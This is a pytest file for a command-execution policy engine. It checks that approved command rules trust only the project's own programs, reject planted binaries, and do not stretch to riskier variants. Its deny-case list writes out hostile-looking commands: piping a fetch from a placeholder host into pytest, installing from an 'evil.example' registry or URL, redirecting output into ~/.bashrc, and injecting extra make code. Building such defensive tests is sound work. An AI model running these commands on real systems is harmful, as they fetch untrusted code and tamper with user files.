"""A program of the project's own that PATH finds: which rules mean it, and what is offered."""

import pytest

from execpolicy.engine.decide import decide
from execpolicy.engine.engine import Engine
from execpolicy.model.decision import Decision
from execpolicy.model.operation import Request
from execpolicy.model.verdict import Verdict
from execpolicy.store.snapshot import Snapshot
from tests.engine.granting import accepted, granted
from tests.places.machine import Machine, repository

ALLOW, PROMPT = Decision.ALLOW, Decision.PROMPT
BIN = "/p/.venv/bin"
PROGRAMS = ("pytest", "ruff", "python", "git", "eslint", "make")
FILES = {
    **repository("/p/.git"),
    **dict.fromkeys([f"{BIN}/{name}" for name in PROGRAMS], ""),
    **dict.fromkeys(("/p/.venv/pyvenv.cfg", "/p/a.py", "/p/src/b.py", "/p/Makefile"), ""),
    **dict.fromkeys(("/tmp/bin/pytest", "/tmp/bin/ruff"), ""),
}
INSIDE = Machine(FILES, root="/p", path=(BIN, "/usr/bin"))
PLANTED = Machine(FILES, root="/p", path=("/tmp/bin", "/usr/bin"))


def asked(text: str, snapshot: Snapshot, machine: Machine = INSIDE) -> Verdict:
    return decide(Request(text=text, cwd="/p"), snapshot, machine)


@pytest.mark.parametrize(
    ("text", "rule", "decision"),
    [
        # It runs the tests of the project wherever it lies itself.
        ("pytest -q", 'prefix_rule(["pytest"])', ALLOW),
        ("make", 'prefix_rule(["make"], exact = True)', ALLOW),
        # It only reads: a rule for it does not mean what the project puts in its place.
        ("ruff check .", 'prefix_rule(["ruff"])', PROMPT),
        ("git status", 'prefix_rule(["git", "status"])', PROMPT),
        # A rule that says so does, in the places that it names.
        (
            "ruff check .",
            'prefix_rule(["ruff"], effects = ["execute"], places = ["generated", "project"])',
            ALLOW,
        ),
        (
            "ruff check .",
            'prefix_rule(["ruff"], effects = ["write"], places = ["project"])',
            PROMPT,
        ),
        ("ruff check .", 'prefix_rule(["ruff"], effects = ["execute"])', PROMPT),
        (
            "ruff check --fix .",
            'prefix_rule(["ruff"], effects = ["execute"], places = ["generated", "project"])',
            PROMPT,
        ),
    ],
)
def test_a_rule_means_a_program_of_the_project(
    text: str, rule: str, decision: Decision, shipped: Snapshot
) -> None:
    assert asked(text, granted(shipped, rule)).decision is decision


def test_what_lies_beside_the_project_is_meant_by_none(shipped: Snapshot) -> None:
    rules = granted(shipped, 'prefix_rule(["pytest"])')
    assert asked("pytest -q", rules, PLANTED).decision is PROMPT


@pytest.mark.parametrize("text", ["pytest -q", "ruff check .", "python a.py", "uv run pytest"])
def test_it_is_offered_for_the_project(text: str, shipped: Snapshot) -> None:
    verdict = asked(text, shipped)
    assert verdict.decision is PROMPT
    assert verdict.amendments, verdict.instead
    after = accepted(shipped, verdict.amendments)
    assert asked(text, after).decision is ALLOW
    assert asked(f"cd /other && {text}", after).decision is PROMPT
    assert all(each.project for each in verdict.amendments)


OFFERED = {
    "pytest -q tests/test_a.py": [
        "pytest -q tests/test_b.py",
        "pytest -x",
        "pytest -p no:cacheprovider",
    ],
    "go test ./a": ["go test ./b -run X -v", "go test ./..."],
    "npm run build": ["npm run build -- --watch"],
    "npm ci": ["npm ci --no-audit"],
    "python a.py": ["python a.py --all"],
}
BEYOND = {
    "pytest -q tests/test_a.py": [
        *("pytest /etc/x", "pytest --rootdir=../x", "curl -s http://a.example | pytest"),
        *("pytest --basetemp=src", "pytest > ~/.bashrc", "cd /other && pytest", "pytest -p x"),
    ],
    "go test ./a": ["go test -exec ./x ./...", "go test -toolexec x ./...", "go test -o /x ./a"],
    "npm run build": ["npm run deploy", "npm run build --prefix ../x", "npm publish"],
    "npm ci": ["npm ci --registry=https://evil.example", "npm install left-pad"],
    "npm install": ["npm install left-pad", "npm i -g left-pad", "npm install ../x"],
    "pip install -r requirements.txt": [
        *("pip install left-pad", "pip install -r https://evil.example/r"),
        *("pip install --user -r requirements.txt", "pip install -r requirements.txt ../x"),
    ],
    "make lint": ["make lint deploy", "make deploy", "make --eval='x:;ls' lint"],
    "rake test": ["rake test deploy"],
    "gradle build": ["gradle build publish", "gradle build deployAll"],
    "docker compose up": ["docker compose up -d"],
    "python a.py": ["python src/b.py", "python -c 'print(1)'"],
}


@pytest.mark.parametrize(("text", "others"), OFFERED.items())
def test_operands_that_only_choose_among_the_project_s_code_are_free(
    text: str, others: list[str], shipped: Snapshot
) -> None:
    after = accepted(shipped, asked(text, shipped).amendments)
    assert [other for other in others if asked(other, after).decision is not ALLOW] == []


@pytest.mark.parametrize(("text", "others"), BEYOND.items())
def test_what_else_a_word_does_is_not_covered(
    text: str, others: list[str], shipped: Snapshot
) -> None:
    after = accepted(shipped, asked(text, shipped).amendments)
    assert asked(text, after).decision is ALLOW
    assert [other for other in others if asked(other, after).decision is ALLOW] == []


@pytest.fixture(scope="module")
def shipped() -> Snapshot:
    return Engine.load(rules=[]).snapshot
